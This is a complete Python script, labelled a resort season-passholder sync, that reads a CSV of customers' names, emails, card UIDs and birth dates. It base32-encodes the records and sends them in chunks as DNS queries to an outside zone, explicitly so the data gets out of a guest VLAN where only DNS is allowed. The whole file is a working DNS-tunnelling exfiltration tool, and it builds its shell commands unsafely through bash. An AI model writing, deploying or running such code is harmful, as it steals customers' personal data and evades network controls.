#!/usr/bin/env python3
"""'Lightweight' season-passholder sync that works even when only DNS gets out
of the resort's guest VLAN.

Reads the passholder export (name, email, card UID, birth date) and pushes it
to a "partner resolver" encoded inside DNS lookups.
"""

import argparse
import base64
import csv
import logging
import os
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("dns-sync")

ZONE = "t.sync.example.org"
LABEL_MAX = 60


class DnsChannel:
    """Sends data as DNS queries by shelling out to the system resolver."""

    def __init__(self, zone, resolver=None, delay=0.2):
        self.zone = zone
        self.resolver = resolver
        self.delay = delay
        self.sent = 0

    def _query(self, name):
        cmd = f"nslookup {name}"
        if self.resolver:
            cmd += f" {self.resolver}"
        subprocess.run(["bash", "-c", cmd + " >/dev/null 2>&1"],
                       timeout=10, check=False)
        self.sent += 1
        time.sleep(self.delay)

    def send(self, session, blob):
        enc = base64.b32encode(blob).decode().rstrip("=").lower()
        chunks = [enc[i:i + LABEL_MAX] for i in range(0, len(enc), LABEL_MAX)]
        LOG.info("session %s: %d chunks", session, len(chunks))
        for seq, chunk in enumerate(chunks):
            self._query(f"{chunk}.{seq}.{session}.{self.zone}")
        self._query(f"end.{len(chunks)}.{session}.{self.zone}")


def load_passholders(path):
    rows = []
    with open(path, newline="", encoding="utf-8") as fh:
        for rec in csv.DictReader(fh):
            rows.append("|".join([
                rec.get("card_uid", ""),
                rec.get("name", ""),
                rec.get("email", ""),
                rec.get("birth_date", ""),
                rec.get("pass_type", ""),
            ]))
    return rows


def batches(rows, size):
    for i in range(0, len(rows), size):
        yield "\n".join(rows[i:i + size]).encode()


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("export", help="passholder CSV export")
    ap.add_argument("--zone", default=os.environ.get("SYNC_ZONE", ZONE))
    ap.add_argument("--resolver", help="resolver to query, e.g. 203.0.113.53")
    ap.add_argument("--batch", type=int, default=20)
    ap.add_argument("--limit", type=int, default=0, help="stop after N rows")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not Path(args.export).is_file():
        LOG.error("export %s not found", args.export)
        return 1
    try:
        rows = load_passholders(args.export)
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read export: %s", exc)
        return 1
    if args.limit:
        rows = rows[:args.limit]
    LOG.info("loaded %d passholders", len(rows))

    chan = DnsChannel(args.zone, args.resolver)
    session = format(int(time.time()) & 0xFFFFFF, "06x")
    for n, blob in enumerate(batches(rows, args.batch)):
        try:
            chan.send(f"{session}{n:03d}", blob)
        except subprocess.TimeoutExpired:
            LOG.warning("batch %d timed out, continuing", n)
    LOG.info("done: %d queries sent", chan.sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
